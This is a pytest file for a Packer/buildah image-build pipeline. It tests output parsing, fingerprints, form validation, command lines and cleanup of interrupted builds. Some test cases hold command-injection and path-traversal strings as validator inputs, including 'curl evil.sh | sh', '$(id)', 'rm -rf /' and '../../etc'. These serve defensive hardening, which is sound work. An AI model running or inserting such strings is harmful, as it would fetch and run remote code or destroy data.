"""Image pipelines without a registry or an emulator: Packer output parsing, fingerprints, forms, commands."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from dtp.form import airflow_params
from dtp.form_params import ParamsError, parse_params
from dtp.hooks.image_builder import ContainerBuildError, ImageBuilder
from dtp.hooks.packer import BuildResult, MachineReadableLine, PackerError, PackerHook, fingerprint
from dtp.images import ami, container

# Lines of a real `packer build -machine-readable` (packer 1.6.6, amazon-ebs against the emulator).
PACKER_OUTPUT = """\
1795478204,,ui,say,==> amazon-ebs.emulator: Creating AMI dtp-test-1 from instance i-16786e5865bba720c
1795478204,,ui,message,    amazon-ebs.emulator: AMI: ami-408080c16bbd3abaf
1795478204,,ui,say,==> amazon-ebs.emulator: No volumes to clean up%!(PACKER_COMMA) skipping
1795478204,amazon-ebs.emulator,artifact-count,1
1795478204,amazon-ebs.emulator,artifact,0,builder-id,mitchellh.amazonebs
1795478204,amazon-ebs.emulator,artifact,0,id,us-east-1:ami-408080c16bbd3abaf
1795478204,amazon-ebs.emulator,artifact,0,string,AMIs were created:\\nus-east-1: ami-408080c16bbd3abaf\\n
1795478204,amazon-ebs.emulator,artifact,0,end
"""


def _parsed(text: str) -> list[MachineReadableLine]:
    return [line for raw in text.splitlines() if (line := MachineReadableLine.parse(raw))]


def test_machine_readable_lines_give_messages_and_the_ami() -> None:
    lines = _parsed(PACKER_OUTPUT)
    assert lines[2].message == "==> amazon-ebs.emulator: No volumes to clean up, skipping"
    result = BuildResult()
    for line in lines:
        result.add(line)
    assert result.amis() == {"us-east-1": "ami-408080c16bbd3abaf"}
    assert result.errors == []


def test_multi_region_artifacts_and_errors() -> None:
    result = BuildResult()
    for line in _parsed(
        "1,amazon-ebs.aws,artifact,0,id,us-east-1:ami-1%!(PACKER_COMMA)eu-west-1:ami-2\n"
        "2,,ui,error,Build 'amazon-ebs.aws' errored: InsufficientInstanceCapacity\n"
        "not a machine-readable line\n"
    ):
        result.add(line)
    assert result.amis() == {"us-east-1": "ami-1", "eu-west-1": "ami-2"}
    assert result.errors == ["Build 'amazon-ebs.aws' errored: InsufficientInstanceCapacity"]


def test_fingerprint_follows_files_and_variables(tmp_path) -> None:
    (tmp_path / "roles").mkdir()
    (tmp_path / "roles" / "main.yml").write_text("a")
    first = fingerprint([tmp_path], {"nccl_version": "2.27.5-1"})
    assert fingerprint([tmp_path], {"nccl_version": "2.27.5-1"}) == first
    assert fingerprint([tmp_path], {"nccl_version": "2.28.3-1"}) != first
    (tmp_path / "roles" / "main.yml").write_text("b")
    assert fingerprint([tmp_path], {"nccl_version": "2.27.5-1"}) != first


def test_fingerprint_leaves_out_bytecode_and_follows_where_a_file_is(tmp_path) -> None:
    (tmp_path / "training").mkdir()
    (tmp_path / "training" / "train.py").write_text("a")
    first = fingerprint([tmp_path], {})
    # A test run or a worker importing the sources writes these: the same sources must keep their image tag.
    (tmp_path / "training" / "__pycache__").mkdir()
    (tmp_path / "training" / "__pycache__" / "train.cpython-311.pyc").write_bytes(b"\x00")
    (tmp_path / "training" / "stale.pyc").write_bytes(b"\x00")
    assert fingerprint([tmp_path], {}) == first
    (tmp_path / "training" / "train.py").rename(tmp_path / "train.py")
    assert fingerprint([tmp_path], {}) != first


def test_every_family_has_a_var_file_and_a_playbook() -> None:
    assert ami.ami_families() == ["eks-gpu", "pcluster-cpu", "pcluster-gpu", "pcluster-neuron"]
    assert set(ami.default_versions()) >= {"nccl_version", "efa_installer_version", "aws_ofi_nccl_version"}


def test_ami_bake_form_defaults_come_from_the_versions_file() -> None:
    form = airflow_params(model=ami.AmiBakeParams)
    assert form["nccl_version"].value == ami.default_versions()["nccl_version"]
    assert form["families"].schema["items"]["enum"] == ami.ami_families()
    params = parse_params(ami.AmiBakeParams, {"families": ["eks-gpu", "pcluster-gpu"], "nccl_version": "2.28.3-1"})
    requests = ami.bake_requests(params, {"dtp:owner": "dtp"})
    assert [r["variables"]["family"] for r in requests] == ["eks-gpu", "pcluster-gpu"]
    assert requests[0]["variables"]["nccl_version"] == "2.28.3-1"
    assert requests[0]["var_file"].endswith("families/eks-gpu.pkrvars.hcl")
    # The filter the template picks the source AMI with: its newest match goes into the AMI's fingerprint.
    assert requests[1]["source_ami"] == {
        "name": "aws-parallelcluster-3.16.1-amzn2023-hvm-x86_64-*",
        "owner": "247102896272",
    }


@pytest.mark.parametrize(
    ("conf", "message"),
    [
        ({"families": []}, "families: got []"),
        ({"families": ["pcluster-gpu", "pcluster-gpu"]}, "each family may be listed once"),
        ({"families": ["../../etc"]}, "unknown AMI families"),
        ({"nccl_version": "2.27; curl evil.sh | sh"}, "nccl_version: got"),
        ({"cuda_version": "x" * 40}, "cuda_version: got"),
        ({"neuron_version": "2.24.0"}, "the neuron role pins no packages for Neuron 2.24.0; known: 2.25.0"),
        ({"retain_days": 0}, "retain_days: got 0"),
        ({"ami_name": "mine"}, "ami_name: unknown parameter"),
    ],
)
def test_ami_bake_refuses_bad_input(conf, message) -> None:
    with pytest.raises(ParamsError, match=re.escape(message)):
        parse_params(ami.AmiBakeParams, conf)


def test_container_build_args_default_to_the_dockerfile() -> None:
    assert container.build_arg_defaults("training")["NCCL_VERSION"] == ami.default_versions()["nccl_version"]
    request = parse_params(
        container.ContainerBuildParams,
        {"image": "training", "platform": "parallelcluster", "build_args": {"NCCL_VERSION": "2.28.3-1"}},
    ).build_request()
    assert request["build_args"]["NCCL_VERSION"] == "2.28.3-1"
    assert (
        request["build_args"]["EFA_INSTALLER_VERSION"]
        == container.build_arg_defaults("training")["EFA_INSTALLER_VERSION"]
    )
    assert request["repository"] == "dtp/training"


@pytest.mark.parametrize(
    ("conf", "message"),
    [
        ({"image": "airflow"}, "image: got 'airflow'"),
        ({"build_args": {"PATH": "1"}}, "'PATH' is not an ARG"),
        ({"image": "training", "platform": "eks", "build_args": {"NCCL_VERSION": "$(id)"}}, "a version or image tag"),
        ({"platform": "gcp"}, "platform: got 'gcp'"),
        # Each image where its nodes can run it: a CPU image published for GPU runs would fail them on their cluster.
        ({"platform": "parallelcluster"}, "image 'local-cpu' cannot run on platform 'parallelcluster'"),
        ({"image": "training"}, "image 'training' cannot run on platform 'local''s nodes (it runs on: batch, eks,"),
        ({"image": "neuron", "platform": "batch"}, "image 'neuron' cannot run on platform 'batch'"),
    ],
)
def test_container_build_refuses_bad_input(conf, message) -> None:
    with pytest.raises(ParamsError, match=re.escape(message)):
        parse_params(container.ContainerBuildParams, conf)


def test_packer_build_targets_the_emulator_source_when_the_connection_has_an_endpoint(monkeypatch) -> None:
    conn = {
        "conn_type": "aws",
        "login": "k",
        "password": "s",
        "extra": {"endpoint_url": "http://127.0.0.1:1", "region_name": "eu-west-1"},
    }
    monkeypatch.setenv("AIRFLOW_CONN_AWS_TEST", json.dumps(conn))
    hook = PackerHook(aws_conn_id="aws_test")
    argv = hook.build_command(ami.TEMPLATE, None, {"family": "eks-gpu"})
    assert argv[:5] == ["packer", "build", "-machine-readable", "-color=false", "-only=amazon-ebs.emulator"]
    assert "-var=ec2_endpoint=http://127.0.0.1:1" in argv and "-var=region=eu-west-1" in argv
    env = hook.environment()
    assert env["AWS_ACCESS_KEY_ID"] == "k" and env["AWS_REGION"] == "eu-west-1"


def test_buildah_command_is_an_argv_with_args_and_labels(tmp_path) -> None:
    argv = ImageBuilder("buildah").build_command(
        tmp_path, tmp_path / "Dockerfile", "r/x:1", {"A": "1; rm -rf /"}, {"l": "v"}
    )
    assert argv[:4] == ["buildah", "--storage-driver", "vfs", "build"]
    assert argv[argv.index("--build-arg") : argv.index("--build-arg") + 2] == ["--build-arg", "A=1; rm -rf /"]
    assert "--isolation" in argv and argv[-1] == str(tmp_path)


@pytest.fixture
def interrupted_packer(tmp_path, monkeypatch) -> PackerHook:
    """A packer that, when interrupted, says it cleans up, then deletes its builder (writes ``deleted``)."""
    conn = {"conn_type": "aws", "login": "k", "password": "s", "extra": {"region_name": "eu-west-1"}}
    monkeypatch.setenv("AIRFLOW_CONN_AWS_TEST", json.dumps(conn))
    # In Python, not bash: a shell cannot trap a signal ignored when it started, and SIGINT is ignored in what a
    # non-interactive shell runs in the background (a CI job, a worker started with &), as Go's packer is not.
    packer = tmp_path / "packer"
    packer.write_text(
        f"#!{sys.executable}\n"
        "import signal, sys, time\n"
        "def interrupted(*_):\n"
        "    time.sleep(0.5)\n"
        "    print('2,,ui,say,cleaning up', flush=True)\n"
        f"    open('{tmp_path}/deleted', 'w').close()\n"
        "    print('3,,ui,say,done', end='', flush=True)\n"
        "    sys.exit(1)\n"
        "signal.signal(signal.SIGINT, interrupted)\n"
        "print('1,,ui,say,launching the builder', flush=True)\n"
        "while True:\n"
        "    time.sleep(0.1)\n"
    )
    packer.chmod(0o755)
    return PackerHook(aws_conn_id="aws_test", packer_path=str(packer))


def _interrupt_once_launched(build: subprocess.Popen[bytes], output: Path, deadline_seconds: float = 30) -> None:
    """SIGINT the fake packer's process group once its log shows it installed its handler (it prints "launching the
    builder" after): a signal sent before that would kill it outright, never cleaning up."""
    deadline = time.monotonic() + deadline_seconds
    while "launching the builder" not in (output.read_text() if output.exists() else ""):
        if build.poll() is not None or time.monotonic() > deadline:
            raise AssertionError(f"the fake packer never launched its builder (exit code {build.poll()})")
        time.sleep(0.02)
    os.killpg(build.pid, signal.SIGINT)


@pytest.mark.timeout(60)  # a packer that ignored the interrupt would be followed forever
def test_an_interrupted_build_cleans_up_after_its_reader_is_gone(tmp_path, interrupted_packer) -> None:
    # The task reading packer's output is killed (Airflow's SIGKILL 5 s after on_kill): nothing reads it any more,
    # and packer must still get to delete its instance, which a write to a pipe without a reader would prevent.
    template = tmp_path / "ami.pkr.hcl"
    template.write_text("")
    build = interrupted_packer.start_build(template, None, {}, tmp_path / "packer.log")
    _interrupt_once_launched(build, tmp_path / "packer.log")
    assert build.wait(timeout=10) == 1
    assert (tmp_path / "deleted").exists()
    assert "cleaning up" in (tmp_path / "packer.log").read_text()


@pytest.mark.timeout(60)  # a packer that ignored the interrupt would be followed forever
def test_following_a_build_reads_every_line_it_wrote_until_it_exited(tmp_path, interrupted_packer) -> None:
    template = tmp_path / "ami.pkr.hcl"
    template.write_text("")
    output = tmp_path / "packer.log"
    build = interrupted_packer.start_build(template, None, {}, output)
    interrupter = threading.Thread(target=_interrupt_once_launched, args=(build, output))
    interrupter.start()
    messages: list[str] = []
    with pytest.raises(PackerError, match="exit code 1"):
        interrupted_packer.follow(build, output, messages.append, poll_seconds=0.05)
    interrupter.join()
    assert messages == ["launching the builder", "cleaning up", "done"]  # the last line has no newline


def test_stopping_an_image_build_takes_down_all_it_started() -> None:
    # A killed container_build task (its on_kill) must not leave docker or buildah building on the worker, where
    # the retry would start a second build of the same tag.
    builder = ImageBuilder("buildah")
    children: list[str] = []
    failed: list[Exception] = []

    def build() -> None:
        try:
            builder._stream(["sh", "-c", "sleep 300 & echo $!; wait"], children.append, env=None)
        except ContainerBuildError as err:
            failed.append(err)

    thread = threading.Thread(target=build)
    thread.start()
    for _ in range(50):
        if children:
            break
        time.sleep(0.1)
    builder.stop(grace_seconds=5)
    thread.join(timeout=10)
    assert failed and "failed (exit code -15)" in str(failed[0])
    with pytest.raises(ProcessLookupError):
        for _ in range(50):
            os.kill(int(children[0]), 0)
            time.sleep(0.1)


def test_stopping_a_build_takes_down_its_whole_process_tree() -> None:
    build = subprocess.Popen(
        ["sh", "-c", "sleep 300 & echo $!; wait"], stdout=subprocess.PIPE, text=True, start_new_session=True
    )
    child = int(build.stdout.readline())
    PackerHook.stop(build, grace_seconds=5)
    assert build.poll() is not None
    with pytest.raises(ProcessLookupError):
        for _ in range(50):
            os.kill(child, 0)
            time.sleep(0.1)


def test_a_check_across_fields_is_said_as_itself() -> None:
    # Not "conf: got {<the whole conf>}; Value error, ...": the check's own sentence names the fields.
    with pytest.raises(ParamsError) as refused:
        parse_params(container.ContainerBuildParams, {"image": "training"})
    assert str(refused.value).splitlines()[1].startswith("image 'training' cannot run on platform 'local''s nodes")
    assert "Value error" not in str(refused.value) and "conf" not in str(refused.value)


def test_every_dockerfile_default_is_a_build_arg_a_person_may_give() -> None:
    # NEURON_TAG's default (an image tag of 41 characters) was refused when typed into the form.
    for image, platform in (("training", "eks"), ("neuron", "parallelcluster"), ("local-cpu", "local")):
        defaults = container.build_arg_defaults(image)
        params = parse_params(
            container.ContainerBuildParams, {"image": image, "platform": platform, "build_args": defaults}
        )
        assert params.build_request()["build_args"] == defaults


def test_each_version_field_names_the_families_it_is_baked_into() -> None:
    # From the families' playbooks, as the README's table lists them: CUDA goes into the GPU families only.
    form = airflow_params(model=ami.AmiBakeParams)
    assert form["cuda_version"].description == "CUDA in the eks-gpu, pcluster-gpu AMIs."
    assert form["efa_installer_version"].description == f"EFA installer in the {', '.join(ami.ami_families())} AMIs."
    assert ami.families_installing("neuron") == ["pcluster-neuron"]
